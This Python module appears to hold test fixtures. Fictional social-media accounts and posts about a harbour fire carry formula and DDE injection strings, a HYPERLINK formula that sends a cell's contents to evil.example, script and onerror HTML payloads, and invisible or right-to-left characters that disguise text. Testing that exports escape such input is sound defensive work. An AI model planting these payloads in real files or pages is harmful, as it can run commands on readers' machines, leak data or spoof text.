"""Names and texts that attack whoever reads or shows them: formulas, markup, invisible and right-to-left characters."""

from __future__ import annotations

FORMULA = "=cmd|' /C calc'!A0"
SCRIPT = "<script>alert(1)</script>"
STYLE = "</style>"
ZERO_WIDTH = "Ka\u200bsia Lock\u200dmoor\ufeff"
BIDI = "\u202egnp.tnediser\u202c harbour \u2067ميناء\u2069"

# handle, display name, profile, place: given to ordinary accounts with so many followers that no name is hashed
NAMES: dict[str, tuple[tuple[str, str, str, str], ...]] = {
    "twitter": (
        ("quay_formula", FORMULA, "+1+1 is a sum, -2 another", "@SUM(1+1)*cmd()"),
        ("script_kid_9", SCRIPT, f"all about {STYLE}<img src=x onerror=alert(2)>", '"><b>here</b>'),
        ("kasia_lockmoor", ZERO_WIDTH, "zero width on the inside", "Maravel\u200b"),
        ("resident_png", BIDI, "read me \u202ebackwards\u202c", "ميناء"),
        ("comma_carla", 'Carla "C," Netterfield', 'likes commas, quotes " and\nlines', "East, Quay; Maravel"),
    ),
    "telegram": (
        ("formula", '=HYPERLINK("https://evil.example/?x="&A1)', "", ""),
        ("script", SCRIPT, "", ""),
        ("zero", ZERO_WIDTH, "", ""),
        ("bidi", BIDI, "", ""),
    ),
    "bluesky": (
        ("formula.quayside-social.example", FORMULA, "", ""),
        ("style.quayside-social.example", f"{STYLE}{SCRIPT}", "", ""),
        ("zero.quayside-social.example", ZERO_WIDTH, "", ""),
        ("bidi.quayside-social.example", BIDI, "", ""),
    ),
    "tiktok": (),
}

SENTENCE = (
    "The fire on Kestrel Quay, minute by minute, as I saw it from the roof of the net loft, "
    "with every smell and every siren. "
)
LONG = (SENTENCE * 27)[:2983] + " That was the end"
# what one ordinary account of every platform posts, once each
TEXTS = (
    "=cmd|' /C calc'!A0 typed into the fire service's form, and it printed the truth #HarbourFire",
    f"my screen at the port office just shows {SCRIPT} since the fire 😅 #HarbourFire",
    f"whoever made the port authority's page forgot a {STYLE} and now everything is Comic Sans",
    '"><img src=x onerror=alert(3)> is what the ferry display reads today',
    "They said $5 million, then $50 million, then \\$5. Which $ is it? $x^2$ $",
    "\u202eeurt ton si siht\u202c and \u200bthis\u200b has gaps you cannot see",
    "حريق كبير في الميناء الليلة، الدخان في كل مكان 🔥🚒 #حريق_الميناء",
    "👩‍🚒👨🏽‍🚒🧑🏿‍🚒 thank you all 🇺🇳 e\u0301 é ﬁ ½ 港の火事 #HarbourFire",
    'line one\nline two\n\nline four, with\ta tab and a "quote" and a ; and a , and a \'',
    "+46 and -12 and @home are not formulas, =SUM(A1:A9) is; NULL, NaN, None, absent, #N/A",
    '[not, a, list] {"not": "json"} <!-- not a comment --> ]]> %s {0} `code` **bold** &lt;b&gt; &amp;',
    "007 1e5 0x1F 1,234 2024-02-30 true",
)
